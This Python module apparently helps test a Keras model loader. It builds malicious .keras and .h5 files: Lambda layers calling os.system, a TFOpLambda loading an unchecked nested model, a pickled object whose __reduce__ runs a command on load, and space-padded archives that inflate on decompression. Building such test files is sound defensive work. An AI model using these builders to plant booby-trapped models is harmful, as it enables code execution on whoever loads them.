"""Files of Keras that someone made to do harm, each of a file that is as Keras saved it."""

import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

Edit = Callable[[Any], Any]


def edited_archive(path: Path, made: Path, edit: Edit, name: str = "config.json") -> Path:
    """Write a .keras whose JSON of that name is as `edit` returns it."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(made, "w") as target:
        for member in source.namelist():
            content = source.read(member)
            edited = json.dumps(edit(json.loads(content))) if member == name else content
            target.writestr(member, edited)
    return made


def edited_hdf5(path: Path, made: Path, edit: Edit) -> Path:
    """Write a .h5 whose architecture is as `edit` returns it."""
    import h5py

    shutil.copy(path, made)
    with h5py.File(made, "r+") as file:
        file.attrs["model_config"] = json.dumps(edit(json.loads(file.attrs["model_config"])))
    return made


def first(layer: Any) -> Edit:
    """Return an edit that puts a layer behind the first one."""

    def edit(config: Any) -> Any:
        config["config"]["layers"].insert(1, layer)
        return config

    return edit


def calling_system(command: str) -> Any:
    """Return a Lambda layer that calls os.system, which is no code that Keras refuses."""
    function = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "system",
    }
    config = {
        "name": "harmful",
        "function": function,
        "function_type": "function",
        "module": None,
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "name": "harmful",
        "config": config,
        "inbound_nodes": [[["_CONSTANT_VALUE", -1, command, {}]]],
    }


def loading_json(text: str) -> Any:
    """Return a layer that has TensorFlow load another model, of a JSON that no check has seen."""
    return {
        "class_name": "TFOpLambda",
        "name": "harmful",
        "config": {"name": "harmful", "function": "keras.models.model_from_json"},
        "inbound_nodes": [["_CONSTANT_VALUE", -1, text, {}]],
    }


class Harmful:
    """Calls os.system when it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> Any:
        import os

        return os.system, (self._command,)


def with_pickles(path: Path, made: Path, command: str) -> Path:
    """Write a .keras whose weights are an .npz of Python objects."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(made, "w") as target:
        for member in ("config.json", "metadata.json"):
            target.writestr(member, source.read(member))
        with target.open("model.weights.npz", "w") as stream:
            np.savez(stream, __root__=np.array(Harmful(command), dtype=object))
    return made


def with_long_text(path: Path, made: Path, name: str, megabytes: int) -> Path:
    """Write a .keras in which a text is preceded by many spaces, which pack well."""
    with (
        zipfile.ZipFile(path) as source,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.namelist():
            spaces = b" " * (megabytes * 10**6) if member == name else b""
            target.writestr(member, spaces + source.read(member))
    return made
